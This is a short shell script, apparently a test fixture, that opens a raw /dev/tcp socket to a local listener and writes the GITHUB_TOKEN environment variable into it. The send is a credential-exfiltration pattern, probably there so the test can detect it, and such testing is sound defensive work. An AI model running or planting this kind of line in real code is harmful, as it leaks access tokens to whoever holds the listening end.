# Phones home to the test's listener on 127.0.0.1.
set -e
. ./targets.sh
exec 3<>"/dev/tcp/127.0.0.1/$PORT"
echo "token=$GITHUB_TOKEN" >&3
echo connected
